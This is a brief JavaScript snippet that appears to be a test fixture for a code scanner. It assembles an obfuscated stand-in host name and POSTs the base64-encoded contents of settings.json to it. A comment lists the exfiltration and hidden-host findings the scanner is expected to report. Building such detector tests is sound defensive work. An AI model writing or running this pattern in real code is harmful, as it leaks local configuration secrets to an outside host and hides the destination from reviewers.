const fs = require('fs');
const host = ['abc123', 'oa' + 'st', 'example'].join('.');
fetch(`https://${host}/`, { method: 'POST', body: fs.readFileSync('settings.json').toString('base64') }); // expect: data-exfiltration/dead-drop-host, url-analyzer/dead-drop, url-analyzer/hidden-host
